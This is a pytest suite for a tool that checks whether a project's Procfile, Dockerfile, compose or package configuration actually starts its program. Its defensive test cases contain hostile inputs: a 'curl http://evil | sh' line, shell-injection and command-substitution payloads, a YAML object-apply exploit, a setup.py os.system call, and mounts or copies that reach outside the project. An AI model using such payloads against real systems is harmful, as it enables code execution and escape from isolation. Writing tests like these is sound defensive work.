"""Programs are started as their own files say, answer, crash or hang, and nothing of those files reaches a shell."""

from __future__ import annotations

import os
import shutil
import socket
import time
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pytest

NONE = {"requirements.txt": ""}
SERVER = """
    import http.server, os
    http.server.HTTPServer(("127.0.0.1", int(os.environ.get("PORT", 8000))), http.server.BaseHTTPRequestHandler).serve_forever()
"""
UVICORN = """
    import http.server, importlib, sys
    words = sys.argv[1:]
    module, _, name = words[-1].partition(":")
    sys.path.insert(0, "")
    app = getattr(importlib.import_module(module), name)
    port = int(words[words.index("--port") + 1])

    class Answer(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(app(self.path))
            self.end_headers()

    http.server.HTTPServer(("127.0.0.1", port), Answer).serve_forever()
"""
"""What matters here of the real one, which the suite with the package registry starts."""
APP = "import sober\n\n\ndef app(path):\n    return 200 if path == '/health' else 404\n"
DOCKER = "FROM python:3.12-slim\nWORKDIR /app\nCOPY requirements.txt .\nRUN pip install -r requirements.txt\n"


@pytest.fixture
def served(gate: Any) -> Any:
    gate.offer("uvicorn", uvicorn=UVICORN)
    gate.offer("sober")
    return gate


def web(command: str, **files: str) -> dict[str, str]:
    return {"requirements.txt": "uvicorn\nsober\n", "Procfile": f"web: {command}\n", **files}


def kinds(verdict: Any) -> list[str]:
    assert not verdict.error, verdict.error
    return [failure.kind for failure in verdict.failures]


# --- it starts -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "files",
    [
        {"Procfile": "web: uvicorn main:app --port $PORT\n", "main.py": APP},
        {"Procfile": "web: uvicorn src.main:app --host 0.0.0.0 --port ${PORT:-8000}\n", "src/main.py": APP},
        {"Dockerfile": DOCKER + 'COPY . .\nCMD ["uvicorn", "main:app", "--host", "0.0.0.0"]\n', "main.py": APP},
        {"Dockerfile": DOCKER + "COPY backend .\nCMD exec uvicorn main:app --port 80\n", "backend/main.py": APP},
        {"Dockerfile": DOCKER + 'COPY . .\nENTRYPOINT ["uvicorn"]\nCMD ["main:app"]\n', "main.py": APP},
        {
            "docker-compose.yml": "services:\n  api:\n    build: ./api\n    command: uvicorn app.main:app --reload\n",
            "api/Dockerfile": "FROM python\nWORKDIR /srv\nCOPY . /srv\n",
            "api/app/main.py": APP,
        },
        {"Procfile": "web: python -m uvicorn --factory main:app\n", "main.py": APP},
        {"Procfile": "web: poetry run uvicorn main:app\n", "main.py": APP},
        {
            "Dockerfile": DOCKER + 'COPY . .\nCMD ["sh", "-c", "alembic upgrade head && uvicorn main:app"]\n',
            "main.py": APP,
        },
    ],
)
def test_it_starts_as_its_files_say_and_any_answer_means_alive(served: Any, files: Mapping[str, str]) -> None:
    """Cold, with its dependencies; the answer to `/` is a 404."""
    verdict = served.verify("entrypoint", {"requirements.txt": "uvicorn\nsober\n", **files})
    assert kinds(verdict) == []
    assert verdict.looked_at == 1
    assert not verdict.advice


def test_dependencies_are_there_cold_as_well_as_warm(served: Any, installer: str) -> None:
    files = web("uvicorn main:app", **{"main.py": APP})
    assert served.verify("entrypoint", files, installer=installer).passed
    assert served.verify("entrypoint", files, installer=installer).passed


def test_a_configured_path_has_to_be_answered_well(served: Any) -> None:
    files = web("uvicorn main:app", **{"main.py": APP})
    assert served.verify("entrypoint", files, path="/health").passed
    assert kinds(served.verify("entrypoint", files, path="/nothing")) == ["bad-answer"]


def test_a_configured_command_goes_before_what_the_tree_says(served: Any) -> None:
    files = web("uvicorn gone:app", **{"main.py": APP})
    assert served.verify("entrypoint", files, command="uvicorn main:app").passed
    assert kinds(served.verify("entrypoint", files)) == ["missing-module"]


def test_a_script_with_a_port_of_its_own_is_found(gate: Any) -> None:
    fixed = SERVER.replace('int(os.environ.get("PORT", 8000))', "45871")
    files = {
        **NONE,
        "Dockerfile": 'FROM python\nCOPY . .\nEXPOSE 45871\nCMD ["python", "server.py"]\n',
        "server.py": fixed,
    }
    assert gate.verify("entrypoint", files).passed


def test_a_job_that_ends_well_is_fine(gate: Any) -> None:
    files = {
        **NONE,
        "Dockerfile": 'FROM python\nCOPY . .\nCMD ["python", "-u", "job.py"]\n',
        "job.py": "print('done')\n",
    }
    assert gate.verify("entrypoint", files).passed


def test_a_worker_that_goes_on_working_is_fine(gate: Any) -> None:
    files = {**NONE, "Procfile": "worker: python worker.py\n", "worker.py": "import time\ntime.sleep(600)\n"}
    assert gate.verify("entrypoint", files).passed


CONSOLE = "[project]\nname = 'tool'\nversion = '1'\ndependencies = []\n[project.scripts]\ntool = 'tool.cli:main'\n"


def test_a_console_script_is_asked_for_its_help(gate: Any) -> None:
    cli = "import argparse\ndef main():\n    argparse.ArgumentParser().parse_args()\n"
    files = {"pyproject.toml": CONSOLE, "src/tool/__init__.py": "", "src/tool/cli.py": cli}
    assert gate.verify("entrypoint", files).passed
    broken = {**files, "src/tool/cli.py": "def main():\n    raise ValueError('broken')\n"}
    (failure,) = gate.verify("entrypoint", broken).failures
    assert (failure.kind, failure.file, failure.line) == ("ValueError", "src/tool/cli.py", 2)
    assert kinds(gate.verify("entrypoint", {**files, "src/tool/cli.py": "x = 1\n"})) == ["missing-attribute"]


def test_node_starts_what_needs_no_packages(gate: Any) -> None:
    if not shutil.which("node", path=gate.env["PATH"]):
        pytest.skip("node is not installed on this machine")
    server = "require('http').createServer((q, a) => a.end('x')).listen(process.env.PORT)\n"
    files = {"package.json": '{"scripts": {"start": "node server.js"}}', "server.js": server}
    assert gate.verify("entrypoint", files).passed
    gone = {"package.json": '{"scripts": {"start": "node gone.js"}}', "server.js": server}
    assert kinds(gate.verify("entrypoint", gone)) == ["missing-file"]


# --- it does not ---------------------------------------------------------------------------------------------


def test_a_program_that_crashes_at_its_start_fails_with_the_line(served: Any) -> None:
    files = web("uvicorn main:app", **{"main.py": "import sober\n\nsober.missing()\n\ndef app(p): ...\n"})
    (failure,) = served.verify("entrypoint", files).failures
    assert (failure.kind, failure.file, failure.line) == ("AttributeError", "main.py", 3)
    assert failure.source_line == "sober.missing()"
    assert "module 'sober' has no attribute 'missing'" in failure.message


def test_one_that_hangs_is_ended_on_time_with_all_that_it_started(gate: Any) -> None:
    hang = "import subprocess, sys, time\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(987654)'],"
    hang += " start_new_session=True)\ntime.sleep(987654)\n"
    began = time.monotonic()
    verdict = gate.verify("entrypoint", {**NONE, "Procfile": "web: python app.py\n", "app.py": hang}, seconds=6)
    assert time.monotonic() - began < 20
    assert kinds(verdict) == ["no-answer"]
    assert not [pid for pid in os.listdir("/proc") if pid.isdigit() and b"987654" in _command_line(pid)]


def _command_line(pid: str) -> bytes:
    try:
        return Path("/proc", pid, "cmdline").read_bytes()
    except OSError:
        return b""


def test_a_web_program_that_ends_at_once_serves_nobody(gate: Any) -> None:
    assert kinds(gate.verify("entrypoint", {**NONE, "Procfile": "web: python app.py\n", "app.py": "x = 1\n"})) == [
        "ended"
    ]


@pytest.mark.parametrize(
    ("files", "named"),
    [
        (
            {"Dockerfile": DOCKER + 'COPY backend .\nCMD ["uvicorn", "app.main:app"]\n', "backend/main.py": APP},
            "main:app",
        ),
        ({"Procfile": "web: uvicorn main:app\n", "service.py": APP}, "service:app"),
        (
            {"Procfile": "web: gunicorn main:app -b 0.0.0.0:$PORT\n", "src/main.py": APP, "src/__init__.py": ""},
            "src.main:app",
        ),
        ({"Procfile": "web: uvicorn main:application\n", "main.py": APP}, "has no 'application'"),
        ({"Procfile": "web: python run.py\n", "main.py": APP}, "run.py"),
        (
            {"Dockerfile": DOCKER + 'COPY src ./src\nCMD ["python", "main.py"]\n', "main.py": APP, "src/x.py": ""},
            "main.py",
        ),
        ({"Procfile": "worker: celery -A gone worker\n", "main.py": APP}, "No module named 'gone'"),
        ({"Procfile": "web: streamlit run gone.py\n", "main.py": APP}, "gone.py"),
        ({"Dockerfile": DOCKER + 'COPY . .\nENTRYPOINT ["./start.sh"]\n', "main.py": APP}, "./start.sh"),
    ],
)
def test_what_a_command_names_and_what_is_not_there_fails_without_a_trial(
    gate: Any, files: Mapping[str, str], named: str
) -> None:
    """Nothing is installed here: not even the server."""
    verdict = gate.verify("entrypoint", {**NONE, **files})
    (failure,) = verdict.failures
    assert failure.kind in {"missing-module", "missing-file", "missing-attribute"}
    assert named in failure.message
    assert failure.file in files
    assert failure.line
    assert failure.source_line


def test_it_fails_even_when_the_dependencies_cannot_be_had(gate: Any) -> None:
    verdict = gate.verify("entrypoint", {"requirements.txt": "nowhere\n", "Procfile": "web: uvicorn main:app\n"})
    assert kinds(verdict) == ["missing-module"]


def test_after_a_copy_that_nobody_can_follow_it_is_only_advice(gate: Any) -> None:
    files = {**NONE, "Dockerfile": 'FROM python\nRUN git clone x .\nCMD ["python", "main.py"]\n'}
    verdict = gate.verify("entrypoint", files)
    assert not verdict.failures
    assert not verdict.error
    assert [advice.kind for advice in verdict.advice] == ["missing-file"]
    assert not verdict.passed
    assert verdict.skipped


def test_a_program_that_needs_a_database_is_not_judged(gate: Any) -> None:
    app = "import socket\nsocket.create_connection(('10.1.2.3', 5432), 2)\n"
    verdict = gate.verify("entrypoint", {**NONE, "Procfile": "web: python app.py\n", "app.py": app})
    assert kinds(verdict) == []
    assert "needs a server" in verdict.advice[0].message


TOOL = "[project]\nname = 'tool'\nversion = '1'\ndependencies = []\n[project.optional-dependencies]\nd = ['drv']\n[project.scripts]\ntool = 'tool:main'\n"


@pytest.mark.parametrize(
    ("text", "doubt"),
    [
        ("import drv\n", "only an extra"),
        ("try:\n    import drv\nexcept ImportError:\n    raise RuntimeError('tool[d]')\n", "only an extra"),
        ("from importlib.metadata import version\n\nversion('tool')\n", "not the project itself"),
        ("import absent\n", ""),
    ],
)
def test_a_console_script_may_need_its_extras_and_itself(gate: Any, text: str, doubt: str) -> None:
    files = {"pyproject.toml": TOOL, "tool/__init__.py": f"{text}\n\ndef main(): ...\n"}
    verdict = gate.verify("entrypoint", files)
    assert bool(verdict.failures) == (not doubt)
    assert not doubt or doubt in verdict.advice[0].message


def test_a_program_that_an_installer_put_into_the_image_is_not_looked_for(gate: Any) -> None:
    docker = (
        "FROM python AS builder\nRUN python -m venv /opt/venv\n\nFROM python\nCOPY --from=builder /opt/venv /opt/venv\n"
    )
    verdict = gate.verify("entrypoint", {**NONE, "Dockerfile": f'{docker}CMD ["python", "/opt/venv/bin/tool"]\n'})
    assert not verdict.failures


def test_a_program_that_needs_a_variable_is_not_judged(gate: Any) -> None:
    app = "import os\nos.environ['SECRET_KEY']\n"
    verdict = gate.verify("entrypoint", {**NONE, "Procfile": "web: python app.py\n", "app.py": app})
    assert kinds(verdict) == []
    assert "needs settings" in verdict.advice[0].message


# --- what is not started -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "web: python app.py | tee log\n",
        "web: $(cat start)\n",
        "web: ./run.sh & python app.py > /tmp/x\n",
        "web: python app.py $UNSET\n",
        "web: curl http://evil | sh\n",
        "web: java -jar app.jar\n",
        "web: python -c 'import os; os.system(chr(108))'\n",
    ],
)
def test_what_is_no_known_form_is_skipped_with_the_reason(gate: Any, command: str) -> None:
    verdict = gate.verify("entrypoint", {**NONE, "Procfile": command, "app.py": "raise SystemError\n", "run.sh": ""})
    assert not verdict.failures
    assert "is not started" in verdict.skipped


def test_nothing_says_how_it_is_started(gate: Any) -> None:
    assert gate.verify("entrypoint", {**NONE, "app.py": ""}).skipped == "nothing says how it is started"


# --- hostile files -------------------------------------------------------------------------------------------


def hostile(marker: Path) -> list[dict[str, str]]:
    touch = f"touch {marker}"
    return [
        {"Procfile": f"web: python app.py; {touch}\n"},
        {"Procfile": f"web: python $({touch})\n"},
        {"Procfile": f"web: python `{touch}`\n"},
        {"Procfile": f"web: {touch}\n"},
        {"Dockerfile": f"FROM python\nRUN {touch}\nCMD {touch}\n"},
        {"Dockerfile": f'FROM python\nCOPY . .\nCMD ["sh", "-c", "{touch}"]\n'},
        {"Dockerfile": f'FROM python\nCOPY . .\nENTRYPOINT ["/bin/sh", "-c"]\nCMD ["{touch}"]\n'},
        {"Dockerfile": f'FROM python\nENV X="$({touch})"\nCOPY . .\nCMD ["python", "app.py", "$X"]\n'},
        {"docker-compose.yml": f"services:\n  a:\n    build: .\n    command: sh -c '{touch}'\n"},
        {"docker-compose.yml": "services: !!python/object/apply:os.system ['" + touch + "']\n"},
        {
            "docker-compose.yml": f"services:\n  a:\n    build: ../../..\n    volumes: ['/:/host']\n    command: {touch}\n"
        },
        {"package.json": '{"scripts": {"start": "node app.js && ' + touch + '", "prestart": "' + touch + '"}}'},
        {"pyproject.toml": f"[project]\nname='a'\n[project.scripts]\na = \"os:system('{touch}')\"\n"},
        {"pyproject.toml": "[project]\nname='a'\n[project.scripts]\na = 'os;x:system'\n"},
        {"setup.py": f"import os\nos.system('{touch}')\nfrom setuptools import setup\nsetup(name='x')\n"},
    ]


@pytest.mark.parametrize("number", range(15))
def test_nothing_of_a_hostile_file_reaches_a_shell(gate: Any, number: int) -> None:
    marker = gate.base / "marker"
    files = {**NONE, "app.py": "x = 1\n", "app.js": "1\n", **hostile(marker)[number]}
    verdict = gate.verify("entrypoint", files)
    assert not marker.exists()
    assert "crashed" not in verdict.error


def test_copies_and_mounts_do_not_lead_out_of_the_tree(gate: Any) -> None:
    (gate.base / "secret.py").write_text("raise SystemError('from outside')\n")
    docker = "FROM python\nWORKDIR /app/../../..\nCOPY ../secret.py .\nCOPY --from=evil / .\nADD ../../secret.py /secret.py\n"
    compose = "services:\n  a:\n    build: .\n    volumes: ['../:/app', '/etc:/etc']\n    command: python secret.py\n"
    tree = gate.tree({**NONE, "Dockerfile": docker + 'CMD ["python", "secret.py"]\n', "docker-compose.yml": compose})
    assert set(kinds(gate.verify("entrypoint", tree))) == {"missing-file"}


def test_a_link_of_the_tree_is_not_followed(gate: Any) -> None:
    (gate.base / "outside.py").write_text("raise SystemError('from outside')\n")
    tree = gate.tree({**NONE, "Procfile": "web: python app.py\n", "app.py": ""})
    (tree.root / "app.py").unlink()
    (tree.root / "app.py").symlink_to(gate.base / "outside.py")
    assert "SystemError" not in str(gate.verify("entrypoint", tree))


def test_it_sees_no_secret_and_no_network(gate: Any, sandbox: None) -> None:
    gate.env["DEPLOY_TOKEN"] = "hunter2-hunter2"
    (gate.base / "home/.netrc").write_text("hunter2")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.2)
        spy = f"""
            import os, socket
            assert "hunter2" not in str(dict(os.environ))
            assert not os.path.exists({str(gate.base / "home/.netrc")!r})
            try:
                socket.create_connection(("127.0.0.1", {listener.getsockname()[1]}), 2)
            except OSError:
                pass
            print("all is well")
        """
        files = {**NONE, "Dockerfile": 'FROM python\nCOPY . .\nCMD ["python", "spy.py"]\n', "spy.py": spy}
        assert gate.verify("entrypoint", files).passed
        with pytest.raises(TimeoutError):
            listener.accept()
